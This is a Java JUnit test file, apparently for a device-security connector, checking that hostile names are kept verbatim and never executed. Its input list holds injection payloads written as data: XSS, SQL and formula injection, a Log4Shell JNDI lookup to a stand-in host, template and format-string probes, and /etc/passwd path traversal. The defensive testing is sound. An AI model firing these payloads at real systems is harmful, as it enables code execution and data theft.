package dev.mtdconnector.security;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.ObjectMapper;
import dev.mtdconnector.enrollment.Directory.Group;
import dev.mtdconnector.enrollment.Directory.OwnedDevice;
import dev.mtdconnector.tenant.Registration;
import dev.mtdconnector.testing.LogCapture;
import dev.mtdconnector.testing.TestApp;
import java.util.List;
import java.util.Map;
import java.util.UUID;
import org.jspecify.annotations.Nullable;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;

/** Names that somebody in a directory, on a device, or at the feed chose: kept exactly, and obeyed by nobody. */
class HostileNamesTest {

    private static final ObjectMapper JSON = new ObjectMapper();

    static List<String> names() {
        return List.of(
                "<script>alert(1)</script>",
                "\"><img src=x onerror=alert(1)>",
                "' or 1=1 --",
                "' or PartitionKey ne ''",
                "=cmd|' /C calc'!A0",
                "+1+1",
                "-2+3",
                "@SUM(A1:A9)",
                "\tTAB first",
                "\u202Egnp.exe",
                "\u200F\u200E\u2066abc\u2069",
                "e\u0301" + "\u0301".repeat(500),
                "a\u0000b",
                "a\r\nb",
                "\u001b[31mred",
                "\ud83d\ude00 \ud83d\udc69\u200d\ud83d\ude80",
                "${jndi:ldap://evil.example/a}",
                "%s%n%x %1$s {0} {}",
                "{{7*7}} #{7*7}",
                "../../etc/passwd",
                "a|b/c\\d#e?f",
                "x".repeat(5_000),
                "\u6f22".repeat(5_000),
                " ");
    }

    @ParameterizedTest
    @MethodSource("names")
    void aNameIsKeptExactlyAndBreaksNothing(String name) throws Exception {
        String odd = "11111111-70be-41a9-8d0b-d84fe7f17291";
        String old = "22222222-70be-41a9-8d0b-d84fe7f17291";
        try (LogCapture log = LogCapture.start()) {
            TestApp app = new TestApp();
            app.directory
                    .withDevice(new OwnedDevice(
                            odd, UUID.randomUUID().toString(), name, "Android", "14", name, true, TestApp.LENA, name))
                    .withDevice(new OwnedDevice(
                            old, UUID.randomUUID().toString(), name, name, name, name, null, TestApp.LENA, name));
            app.ready();

            var device = app.get("/api/v1/devices/" + odd).expect(200);
            assertThat(device.text("/displayName")).isEqualTo(name);
            assertThat(device.text("/userPrincipalName")).isEqualTo(name);
            assertThat(device.http().body()).isEqualTo(JSON.writeValueAsString(device.json()));
            assertThat(app.get("/api/v1/devices").expect(200).json().toString()).contains(odd);
            assertThat(app.get("/api/v1/unsupported-devices").expect(200).json().findValuesAsText("displayName"))
                    .containsExactly(name);
            String credential = app.activate(odd);
            app.send(
                    "POST",
                    "/device/v1/checkin",
                    credential,
                    JSON.writeValueAsString(Map.of("osVersion", name, "agentVersion", name)));
            app.feed("{\"events\": [" + event(name) + "]}");
            app.drain();

            assertThat(log.lines()).noneMatch(line -> line.contains("IllegalArgument") || line.contains("ERROR"));
            assertThat(app.get("/api/v1/errors").expect(200).json().path("errors"))
                    .isEmpty();
        }
    }

    @ParameterizedTest
    @MethodSource("names")
    void aGroupsNameIsKeptExactlyOrRefused(String name) throws Exception {
        String group = "33333333-5408-4064-8c79-5f36af8f57d9";
        TestApp app = new TestApp();
        app.directory.withGroup(group, name, TestApp.LENA);
        app.ready();

        var saved = app.put("/api/v1/connector/enrollment", JSON.writeValueAsString(Map.of("groups", List.of(name))));

        assertThat(saved.status()).isIn(200, 400);
        if (saved.status() == 200) {
            assertThat(app.get("/api/v1/connector").expect(200).json().findValuesAsText("displayName"))
                    .contains(name);
        }
        app.drain();
        assertThat(app.get("/api/v1/errors").expect(200).json().path("errors")).isEmpty();
    }

    @ParameterizedTest
    @MethodSource("names")
    void aTenantsNameIsKeptExactlyOrRefusedAndNoPageObeysIt(String name) throws Exception {
        TestApp app = new TestApp();
        String order = JSON.writeValueAsString(Map.of(
                "directoryId",
                TestApp.TENANT,
                "name",
                name,
                "fullAccessGroupId",
                "e31a58da-0c7f-410e-9c5a-9fa15675e5d8",
                "primaryContact",
                "ines.duarte@contoso.example"));
        var created = app.send("POST", "/api/v1/operator/tenants", TestApp.OPERATOR_KEY, order);

        assertThat(created.status()).isIn(201, 400);
        if (created.status() == 201) {
            assertThat(app.send("GET", "/api/v1/tenant", created.text("/apiKey"), "")
                            .text("/name"))
                    .isEqualTo(name);
            String page = app.consent(Registration.BASE).http().body();
            assertThat(page).doesNotContain("<script>", "<img");
            app.drain();
            assertThat(app.mailer.mails()).hasSize(1);
        }
    }

    @Test
    void aNameThatCannotBeStoredIsMendedAndCut() {
        assertThat(named("half\ud83d")).isEqualTo("half?");
        assertThat(named("\udc00\ud800x")).isEqualTo("??x");
        assertThat(named("y".repeat(100_000))).hasSize(8_000);
        assertThat(named("y".repeat(7_999) + "\ud83d\ude00")).hasSize(8_000).endsWith("y?");
        assertThat(new Group("id", "z".repeat(50_000) + "\ud800", true).displayName())
                .hasSize(8_000);
    }

    private static @Nullable String named(String name) {
        return new OwnedDevice("id", "object", name, name, name, name, true, "user", name).displayName();
    }

    private static String event(String name) throws Exception {
        return TestApp.threatEvent(
                        "e-1",
                        TestApp.START,
                        TestApp.VENDOR_GUID,
                        UUID.randomUUID().toString(),
                        "OPEN",
                        "RISKWARE")
                .replace("\"Free Torch\"", JSON.writeValueAsString(name))
                .replace("\"APPLICATION\"", JSON.writeValueAsString(name));
    }
}
